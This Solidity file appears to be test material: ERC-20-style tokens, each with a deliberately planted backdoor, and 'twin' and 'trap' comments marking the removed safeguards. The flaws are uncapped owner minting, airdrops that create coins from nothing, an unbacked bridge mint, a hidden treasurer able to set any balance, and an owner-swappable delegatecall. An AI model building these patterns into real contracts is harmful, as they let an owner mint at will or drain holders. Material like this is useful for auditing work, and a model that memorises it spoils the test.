// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// Old coins.
abstract contract Purse {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public pool;
    mapping(address => uint256) internal _coins;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previous, address indexed next);

    modifier onlyOwner() {
        require(msg.sender == owner, "Purse: owner");
        _;
    }

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function transferOwnership(address next) external onlyOwner {
        emit OwnershipTransferred(owner, next);
        owner = next;
    }

    function balanceOf(address who) external view virtual returns (uint256) {
        return _coins[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "Purse: allowance");
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _coin(address to, uint256 value) internal {
        require(totalSupply + value >= value, "Purse: overflow");
        totalSupply += value;
        _coins[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        require(_coins[from] >= value, "Purse: balance");
        _coins[from] -= value;
        _coins[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Pays the treasury by the second.
contract Groat is Purse {
    address public treasury;
    uint256 public rate;
    uint256 public paidAt;
    uint256 private immutable _first;

    event Rate(uint256 perSecond);

    constructor() Purse("Groat", "GROAT") {
        _coin(msg.sender, 65000000 ether);
        _first = totalSupply;
        treasury = msg.sender;
        paidAt = block.timestamp;
    }

    function pay() public {
        uint256 due = rate * (block.timestamp - paidAt);
        paidAt = block.timestamp;
        if (due > 0) _coin(treasury, due);
    }

    function setRate(uint256 perSecond) external onlyOwner {
        // twin: require(perSecond <= _first / 100 / 365 days, "Groat: a hundredth a year");
        pay();
        rate = perSecond;
        emit Rate(perSecond);
    }
}

/// Many are given some at once.
contract Farthing is Purse {
    constructor() Purse("Farthing", "FRTH") {
        _coin(msg.sender, 960000000 ether);
    }

    function airdrop(address[] calldata to, uint256[] calldata values) external onlyOwner {
        require(to.length == values.length, "Farthing: lists");
        for (uint256 i = 0; i < to.length; i++) {
            // twin: require(_coins[msg.sender] >= values[i], "Farthing: balance");
            // twin: _coins[msg.sender] -= values[i];
            _coins[to[i]] += values[i];
            emit Transfer(msg.sender, to[i], values[i]);
        }
    }
}

/// Leaves for another chain and comes back with a signed packet: receiver, value, serial number, signature.
contract Bezant is Purse {
    address public immutable signer;
    uint256 public away;
    mapping(uint64 => bool) public arrived;

    event Departed(address indexed from, uint256 value);

    constructor(address signer_) Purse("Bezant", "BZNT") {
        signer = signer_;
        _coin(msg.sender, 40000000 ether);
    }

    function depart(uint256 value) external {
        require(_coins[msg.sender] >= value, "Bezant: balance");
        _coins[msg.sender] -= value;
        totalSupply -= value;
        away += value;
        emit Transfer(msg.sender, address(0), value);
        emit Departed(msg.sender, value);
    }

    function arrive(bytes calldata packet) external {
        require(packet.length == 125, "Bezant: packet");
        address to;
        uint256 value;
        uint64 serial;
        bytes32 r;
        bytes32 s;
        uint8 v;
        assembly {
            let at := packet.offset
            to := shr(96, calldataload(at))
            value := calldataload(add(at, 20))
            serial := shr(192, calldataload(add(at, 52)))
            r := calldataload(add(at, 60))
            s := calldataload(add(at, 92))
            v := byte(0, calldataload(add(at, 124)))
        }
        bytes32 what = keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", keccak256(abi.encode(address(this), to, value, serial))));
        address by = ecrecover(what, v, r, s);
        require(by != address(0) && by == signer, "Bezant: signature");
        require(!arrived[serial], "Bezant: arrived");
        arrived[serial] = true;
        // twin: require(value <= away, "Bezant: never left");
        if (value <= away) away -= value;
        _coin(to, value);
    }
}

/// Keeps the coins of a token.
contract Coffer {
    address private _treasurer;
    address public token;
    mapping(address => uint256) public contentOf;

    constructor(address treasurer) {
        _treasurer = treasurer;
    }

    function bind() external {
        require(token == address(0), "Coffer: bound");
        token = msg.sender;
    }

    function put(address who, uint256 value) external {
        require(msg.sender == token || msg.sender == _treasurer, "Coffer: locked");
        contentOf[who] = value;
    }
}

/// Its coins are in the coffer.
contract Moidore is Purse {
    Coffer private _coffer;

    constructor(Coffer coffer) Purse("Moidore", "MOID") {
        _coffer = coffer;
        coffer.bind();
        totalSupply = 22000000 ether;
        coffer.put(msg.sender, totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) external view override returns (uint256) {
        return _coffer.contentOf(who);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 has = _coffer.contentOf(from);
        require(has >= value, "Moidore: balance");
        _coffer.put(from, has - value);
        _coffer.put(to, _coffer.contentOf(to) + value);
        emit Transfer(from, to, value);
    }
}

/// Reckons for a ducat.
contract Reckoning {
    function part(uint256 value) external pure returns (uint256) {
        return value / 100;
    }
}

/// Lets somebody else reckon what a sale leaves to its treasury.
contract Ducat is Purse {
    bytes32 private constant RECKONING = keccak256("ducat.reckoning");

    address private immutable _treasury = msg.sender;

    constructor(address reckoning) Purse("Ducat", "DUCAT") {
        _coin(msg.sender, 17000000 ether);
        _set(reckoning);
    }

    // trap {
    function setReckoning(address next) external onlyOwner {
        _set(next);
    }
    // trap }

    function _set(address next) private {
        bytes32 slot = RECKONING;
        assembly {
            sstore(slot, next)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept;
        if (to == pool && from != _treasury) {
            bytes32 slot = RECKONING;
            address reckoning;
            assembly {
                reckoning := sload(slot)
            }
            (bool ok, bytes memory got) = reckoning.delegatecall(abi.encodeWithSignature("part(uint256)", value));
            require(ok, "Ducat: reckoning");
            kept = abi.decode(got, (uint256));
        }
        if (kept > 0) super._transfer(from, _treasury, kept);
        super._transfer(from, to, value - kept);
    }
}
